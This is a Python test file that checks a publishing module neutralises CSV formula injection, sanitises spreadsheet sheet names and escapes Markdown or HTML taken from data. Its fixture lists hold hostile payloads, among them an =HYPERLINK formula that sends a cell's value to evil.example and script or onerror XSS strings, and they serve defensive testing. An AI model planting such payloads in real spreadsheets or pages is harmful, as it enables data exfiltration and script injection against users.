"""Cells from data cannot be weaponised: CSV formulas neutralised (numbers kept),
sheet names legal, Markdown from data renders as its characters only."""

from __future__ import annotations

import polars as pl
import pytest
from markdown_it import MarkdownIt

from barometer.publish.cells import csv_frame, csv_text, markdown_text, sheet_name

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Germany")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_text_neutralises_formulas(payload: str) -> None:
    assert csv_text(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-3", "+1.5", "-0.25e3", "12", ".5"])
def test_csv_text_keeps_plain_numbers(number: str) -> None:
    assert csv_text(number) == number


def test_csv_frame_matches_csv_text_and_leaves_numbers() -> None:
    texts = [*PAYLOADS, "-3", "Germany", None]
    frame = pl.DataFrame({"label": texts, "share": [-0.5 + i for i in range(len(texts))]})
    out = csv_frame(frame)
    assert out.columns == frame.columns
    assert out["share"].to_list() == frame["share"].to_list()
    assert out["label"].to_list() == [None if t is None else csv_text(t) for t in texts]


@pytest.mark.parametrize(
    "name", ["a[b]:c*?/\\d", "x" * 40, "'quoted'", "history", "\x1b[31mred", "[]:*?"]
)
def test_sheet_names_are_legal(name: str) -> None:
    out = sheet_name(name, ["Contents"], "table_1")
    assert 0 < len(out) <= 31
    assert not set(out) & set("[]:*?/\\")
    assert not out.startswith("'") and not out.endswith("'")
    assert "\x1b" not in out
    assert out.lower() != "history"


def test_sheet_name_taken_uses_fallback() -> None:
    assert sheet_name("CONTENTS", ["Contents"], "q_2") == "q_2"


MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](http://evil.example)",
    "![pixel](http://evil.example/p.png)",
    "<http://evil.example>",
    "**bold** _em_ `code` ~~gone~~",
    "# heading",
    "- item",
    "1. item",
    "&lt;b&gt; &#60;",
    "line\nbreak\r\n<b>x</b>",
    "\x1b[31mred\x1b[0m",
    "| a | b |",
]


@pytest.mark.parametrize("text", MARKUP)
def test_markdown_text_renders_as_typed(text: str) -> None:
    html = (
        MarkdownIt("commonmark")
        .enable("table")
        .enable("strikethrough")
        .render("- " + markdown_text(text) + "\n")
    )
    body = html.removeprefix("<ul>\n<li>").removesuffix("</li>\n</ul>\n")
    assert "<" not in body.replace("&lt;", "")  # no tag of any kind from the data
    assert "\x1b" not in body
    # What shows is the text itself (HTML-escaped), line breaks as spaces.
    shown = body.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"')
    shown = shown.replace("&amp;", "&")
    expected = text.replace("\r\n", " ").replace("\n", " ").replace("\x1b", "")
    assert shown == expected.strip()
